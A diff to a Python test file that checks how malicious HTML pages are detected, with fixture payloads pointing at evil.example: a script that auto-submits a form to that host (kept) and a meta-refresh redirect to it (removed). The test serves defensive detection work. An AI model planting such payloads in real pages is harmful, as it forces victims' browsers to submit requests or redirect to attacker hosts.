@@ -52,10 +52,6 @@ def noted(someone: Visitor, html: str, policy: str = "") -> str:
             "<form method=post action=//evil.example><button></form><script>document.forms[0].submit()</script>",
             "is asked",
         ),
-        (
-            "<meta http-equiv=refresh content='0;url=https://evil.example/x'>",
-            "sent to https://evil.example/x",
-        ),
     ],
 )
 def test_what_a_spoilt_page_does_is_noted(someone: Visitor, html: str, expected: str) -> None:
